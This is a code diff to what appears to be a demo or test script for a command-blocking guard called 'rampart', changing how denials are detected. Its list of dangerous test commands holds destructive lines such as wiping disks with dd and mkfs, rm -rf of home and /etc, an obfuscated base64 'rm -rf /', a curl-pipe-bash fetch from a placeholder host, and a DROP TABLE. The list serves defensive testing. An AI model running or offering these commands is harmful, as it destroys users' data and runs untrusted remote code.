@@ -8,10 +8,10 @@ import sys
 
 
 def show(how, command, returncode, output):
-    if returncode == 0:
-        outcome = "ran"
-    elif returncode == 126:
+    if "rampart: denied:" in output:
         outcome = "DENIED"
+    elif returncode == 0:
+        outcome = "ran"
     else:
         outcome = f"failed ({returncode})"
     print(f"\n{outcome:8} {command}   [{how}]")
@@ -66,7 +66,7 @@ dangerous = [
     system("rm -rf ~"),
     spawn(["mkfs.ext4", "/dev/sda1"]),
     run(["bash", "-c", "cd /tmp && echo cleaning; sudo rm -r --force /etc"]),
-    run(["env", "-i", "PATH=" + os.environ["PATH"], "bash", "-c", "dd if=/dev/zero of=/dev/sda"]),
+    run(["env", "-i", "PATH=bin:/usr/bin:/bin", "bash", "-c", "dd if=/dev/zero of=/dev/sda"]),
     system("echo cm0gLXJmIC8K | base64 -d | sh"),
     run(["bash", "-c", "curl -s http://example.invalid/install.sh | bash"]),
     run(["psql", "-c", "DROP TABLE users"]),
